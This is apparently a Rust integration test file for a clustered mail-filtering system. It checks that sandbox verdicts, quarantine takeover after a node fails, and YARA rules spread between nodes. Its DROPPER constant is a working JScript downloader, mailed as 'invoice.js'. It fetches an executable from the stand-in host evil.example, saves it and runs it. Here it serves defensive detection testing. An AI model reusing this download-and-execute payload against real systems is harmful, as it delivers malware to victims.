//! What one node saw of a file, the others know.

use std::cell::Cell;

use postern_tests::cluster::nodes::{Cluster, Options};
use postern_tests::documents::archive;
use postern_tests::gateway::wait_until;
use postern_tests::smtp::{mail_with, send};
use serde_json::{Value, json};

use crate::world::*;

const DROPPER: &[u8] = b"var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'http://evil.example/a.exe', false); x.send();\n\
var s = new ActiveXObject('ADODB.Stream'); s.open(); s.write(x.responseBody); s.saveToFile('C:\\\\x\\\\run.exe');\n\
new ActiveXObject('WScript.Shell').Run('C:\\\\x\\\\run.exe');";

fn deliver(cluster: &Cluster, node: usize, subject: &str) {
    deliver_with(cluster, node, subject, "invoice.js", DROPPER);
}

fn deliver_with(cluster: &Cluster, node: usize, subject: &str, name: &str, content: &[u8]) {
    let address = std::net::SocketAddr::from((cluster.address(node), 25));
    let mail = mail_with(subject, "", &[(name, "application/octet-stream", content)]);
    std::thread::scope(|s| {
        s.spawn(|| {
            cluster.client().enter().unwrap();
            let said = send(address, "eve@load.example", &["user@backend.example"], &mail).unwrap();
            assert!(said.starts_with("250"), "{said}");
        })
        .join()
        .unwrap();
    });
}

/// The first attachment of the newest mail with this subject, and the symbols of its verdict.
fn opened(cluster: &Cluster, node: usize, subject: &str) -> Option<(Value, String)> {
    let found = cluster.ask(node, &["journey", "search", "--subject", subject]).ok()?;
    let mail = found["journeys"][0]["mail"].as_str()?.to_owned();
    let journey = cluster.ask(node, &["journey", "show", &mail]).ok()?;
    let steps = journey["steps"].as_array()?;
    let symbols = steps.iter().find(|s| s["event"] == "judged")?["verdict"]["hits"].to_string();
    let apart = steps.iter().find(|s| s["event"] == "taken-apart");
    Some((apart.map_or(Value::Null, |s| s["attachments"][0].clone()), symbols))
}

#[test]
fn a_file_that_one_node_opened_is_recognised_at_once_by_another() {
    let folder = tempfile::tempdir().unwrap();
    // Kept, not refused, whatever it comes to.
    let settings = "[filter.thresholds]\nreject = 1000.0\n".to_owned();
    let Some(cluster) = cluster(folder.path(), 2, Options { settings, ..Options::default() }) else { return };
    let _logs = Logs(&cluster);
    // The second node has nobody to open anything: what it knows it was told.
    let _sandbox = cluster.sandbox(0).unwrap();
    deliver(&cluster, 1, "nobody");
    wait_until("its verdict", LIMIT, || opened(&cluster, 1, "nobody").is_some_and(|(_, symbols)| symbols.contains("SANDBOX_UNAVAILABLE")))
        .unwrap();
    deliver(&cluster, 0, "first");
    let mut first = None;
    wait_until("its verdict", LIMIT, || {
        first = opened(&cluster, 0, "first");
        first.is_some()
    })
    .unwrap();
    let (attachment, symbols) = first.unwrap();
    if symbols.contains("no cell can be had") {
        return println!("skipped: {symbols}");
    }
    assert!(symbols.contains("SANDBOX_SCRIPT_DROPPER"), "{symbols}");
    assert_eq!(attachment["seen"], "now", "{attachment}");
    said("the first node opens a dropper");

    let tried = Cell::new(0);
    let took = wait_until("the second node to know it", LIMIT, || {
        tried.set(tried.get() + 1);
        let subject = format!("second{}", tried.get());
        deliver(&cluster, 1, &subject);
        let judged = || opened(&cluster, 1, &subject);
        wait_until("its verdict", LIMIT, || judged().is_some()).unwrap();
        let (attachment, symbols) = judged().unwrap();
        symbols.contains("SANDBOX_SCRIPT_DROPPER") && attachment["seen"]["by-peer"].is_string()
    })
    .unwrap();
    let (attachment, symbols) = opened(&cluster, 1, &format!("second{}", tried.get())).unwrap();
    assert!(!symbols.contains("SANDBOX_UNAVAILABLE"), "{symbols}");
    let timeline = attachment["report"]["timeline"].to_string();
    assert!(timeline.contains("http://evil.example/a.exe") && timeline.contains("run.exe"), "{timeline}");
    said(&format!("the second, which cannot open anything, knows it {} ms later, with its timeline", took.as_millis()));
}

#[test]
fn a_mail_that_waits_for_the_sandbox_is_looked_at_by_a_peer_when_its_node_burns() {
    let folder = tempfile::tempdir().unwrap();
    let settings = "[cluster]\ntakeover_after = \"2s\"\n[sandbox]\ntimeout = \"2s\"\nwhen_unavailable = \"hold\"\n[filter.thresholds]\nreject = 1000.0\n".to_owned();
    let Some(mut cluster) = cluster(folder.path(), 3, Options { settings, ..Options::default() }) else { return };
    let notes = archive(&[("notes.txt", b"hello")], None);
    for (subject, name, content) in [("honest", "notes.zip", notes.as_slice()), ("dropper", "invoice.js", DROPPER)] {
        deliver_with(&cluster, 2, subject, name, content);
        wait_until("it to be held", LIMIT, || happened(&cluster, 2, subject, "held")).unwrap();
    }
    let status = cluster.ask(2, &["cluster", "status"]).unwrap();
    assert_eq!(status["copies"]["unshadowed"], 0, "{status}");
    let sandboxes: Vec<_> = (0..2).map(|node| cluster.sandbox(node).unwrap()).collect();
    assert!(cluster.backend.mails().is_empty());
    cluster.destroy(2).unwrap();
    said("node2 took two mails, nobody looked at their attachments, and it burnt down");
    let _logs = Logs(&cluster);
    cluster.backend.wait_for(1, LIMIT).unwrap();
    let kept = || cluster.ask(0, &["quarantine", "list"]).unwrap()["mails"].as_array().cloned().unwrap_or_default();
    wait_until("the dropper to be kept", LIMIT, || kept().iter().any(|m| m["subject"] == "dropper")).unwrap();
    for subject in ["honest", "dropper"] {
        wait_until("its journey", LIMIT, || happened(&cluster, 0, subject, "taken-over") && happened(&cluster, 0, subject, "hold-ended"))
            .unwrap();
    }
    assert_eq!(cluster.backend.mails().len(), 1);
    said("its peers looked at them: one is delivered, once, and the dropper is in the quarantine");
    drop(sandboxes);
}

/// Names and evidences of all findings of a mail's first attachment.
fn findings(cluster: &Cluster, node: usize, subject: &str) -> Option<String> {
    opened(cluster, node, subject).map(|(attachment, _)| attachment["report"]["findings"].to_string())
}

#[test]
fn yara_rules_that_are_set_on_one_node_fire_on_another() {
    let folder = tempfile::tempdir().unwrap();
    let Some(cluster) = cluster(folder.path(), 2, Options::default()) else { return };
    let _logs = Logs(&cluster);
    let _sandboxes: Vec<_> = (0..2).map(|node| cluster.sandbox(node).unwrap()).collect();
    let rules = |node: usize| cluster.api(node).get("/sandbox/rules").unwrap();
    let look = |node: usize, subject: &str, word: &str| {
        deliver_with(&cluster, node, subject, "notes.zip", &archive(&[("notes.txt", format!("{word} {subject}").as_bytes())], None));
        wait_until("its verdict", LIMIT, || findings(&cluster, node, subject).is_some()).unwrap();
        findings(&cluster, node, subject).unwrap()
    };
    let text = |name: &str, word: &str| json!({ "name": name, "text": format!("rule {name} : info {{\n strings: $a = \"{word}\"\n condition: $a\n}}\n") });

    cluster.api(0).set("sandbox.rules", json!([text("waves", "xyzzy")])).unwrap();
    let took = wait_until("the rules on the second node", LIMIT, || rules(1)["rules"] == 1).unwrap();
    assert!(look(1, "first", "xyzzy").contains("waves:waves [info], $a at 0"), "{}", rules(1));
    said(&format!("rules that the first node was given are in force on the second {} ms later, and fire", took.as_millis()));

    // Each node sets some, a text as large as they may be among them. An error stops both, and each says where.
    let mut others = text("others", "plugh");
    others["text"] = format!("// {}\n{}", "x".repeat(250_000), others["text"].as_str().unwrap()).into();
    cluster.api(1).set("sandbox.rules", json!([text("waves", "xyzzy"), others])).unwrap();
    wait_until("them on both", LIMIT, || (0..2).all(|node| rules(node)["rules"] == 2)).unwrap();
    assert!(look(0, "second", "plugh").contains("others:others [info], $a at 0"));
    let broken = json!({ "name": "waves", "text": "rule waves {\n condition: $x\n}\n" });
    cluster.api(0).set("sandbox.rules", json!([broken, others])).unwrap();
    wait_until("both to refuse them", LIMIT, || (0..2).all(|node| rules(node)["trouble"]["problems"][0]["line"] == 2)).unwrap();
    assert!(look(1, "third", "xyzzy").contains("waves:waves"), "{}", rules(1));
    cluster.api(1).set("sandbox.rules", json!([])).unwrap();
    wait_until("none on both", LIMIT, || (0..2).all(|node| rules(node)["since"].is_null())).unwrap();
    assert!(!look(0, "fourth", "xyzzy plugh").contains("YARA"));
    said("an error on one stops both, which keep what they had; taken back on one, they are gone on both");
}

fn happened(cluster: &Cluster, node: usize, subject: &str, event: &str) -> bool {
    let found = cluster.ask(node, &["journey", "search", "--subject", subject]).unwrap_or_default();
    let Some(mail) = found["journeys"][0]["mail"].as_str() else { return false };
    let journey = cluster.ask(node, &["journey", "show", mail]).unwrap_or_default();
    journey["steps"].as_array().is_some_and(|steps| steps.iter().any(|s| s["event"] == event))
}
